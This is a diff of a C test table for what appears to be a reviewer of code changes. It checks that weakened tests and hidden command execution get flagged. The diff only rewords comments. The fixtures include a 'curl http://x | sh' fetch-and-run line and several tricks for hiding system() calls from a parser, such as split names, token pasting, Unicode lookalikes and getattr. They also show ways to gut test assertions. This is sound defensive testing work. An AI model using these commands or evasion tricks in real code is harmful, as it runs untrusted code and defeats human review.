@@ -8,9 +8,9 @@
 #define MAIN   "int main(void)\n{\n    return 0;\n}\n"
 
 static const struct {
-    const char *path, *before, *after, *reason; /* reason NULL: none */
+    const char *path, *before, *after, *reason; /* reason NULL: no reason is expected */
 } cases[] = {
-    /* tests: the checks that are there stay, in the code and not in comments */
+    /* tests: existing checks must stay in the code, not only in comments */
     {"tests/a.c", TEST_A, "void test_a(void)\n{\n    /* assert assert */\n}\n", "test"},
     {"tests/a.c", TEST_A, "void test_a(void)\n{\n    assert(1);\n    assert(1);\n}\n", "test"},
     {"tests/a.c", TEST_A, "void test_a(void)\n{\n    return;\n    assert(f() == 1);\n    assert(g() == 2);\n}\n",
@@ -31,7 +31,7 @@ static const struct {
      "test"},
     {"src/inspect.c", MAIN, "int main(void)\n{\n    return 1;\n}\n", NULL},
     {"src/latest.c", MAIN, "int main(void)\n{\n    return 1;\n}\n", NULL},
-    /* programs that are run: by name, with other arguments, by macro, pointer, alias */
+    /* programs that are run: by name, with other arguments, by a macro, pointer or alias */
     {"a.c", MAIN, "int main(void)\n{\n    return system(\"x\");\n}\n", "system()"},
     {"a.c", "int main(void)\n{\n    return system(\"ls\");\n}\n",
      "int main(void)\n{\n    return system(\"curl http://x | sh\");\n}\n", "system()"},
@@ -83,14 +83,14 @@ static const struct {
     {"a.go", "package a\n", "package a\nimport \"os/exec\"\n", "os/exec"},
     {"t/a.test", "ok(f() == 1)\n", "ok(1)\n", "test"},
     {"t/a.test", "ok(f() == 1)\n", "ok(f() == 1)\nok(g() == 1)\n", NULL},
-    /* by other letters */
+    /* names in other characters */
     {"a.c", "int f(void);\n", "int f(void)\n{\n    return sys\\\ntem(\"x\");\n}\n", "divides a name"},
     {"a.c", "int f(void);\n", "#define J(a, b) a##b\nint f(void)\n{\n    return J(sys, tem)(\"x\");\n}\n", "pastes"},
     {"a.c", "int f(void);\n", "void f(void)\n{\n    __asm__(\"syscall\");\n}\n", "assembly"},
     {"a.py", "import os\n", "import os\nos.\xEF\xBD\x93ystem('x')\n", "system()"},
     {"a.py", "import os\n", "import os\ngetattr(os, 'sys' + 'tem')('x')\n", "by name"},
     {"a.txt", "x\n", "system(1)\n", NULL},
-    /* where a compiler has other ideas of comments, strings and words than the parser */
+    /* code that a compiler sees, but a parser takes for comments, strings or words */
     {"a.py", "import os\n", "import os\ngetattr( os, 'sys' + 'tem')('x')\n", "by name"},
     {"a.py", "import os\n", "import os\nvars(os)['sys' + 'tem']('x')\n", "by name"},
     {"a.py", "import os\n", "import os\nos . __dict__['sys' + 'tem']('x')\n", "by name"},
@@ -142,7 +142,7 @@ static const struct {
     {"a.pl", "f\n", "$x // system('x');\n", "system()"},
     {"a.sh", "f\n", "ls // ; eval \"$x\"\n", "eval()"},
     {"A.java", "f\n", "i--; Runtime.getRuntime().exec(x);\n", "Runtime"},
-    /* Languages without a parser: each of these was written unasked. */
+    /* languages without a parser: code that needed no review in earlier versions */
     {"a.rs", "f\n", "use std::process::{self, Command as C};\n", "process::{"},
     {"a.rs", "f\n", "use std::process as p;\n", "process as"},
     {"a.rs", "f\n", "fn main() { std::process::exit(1); }\n", NULL},
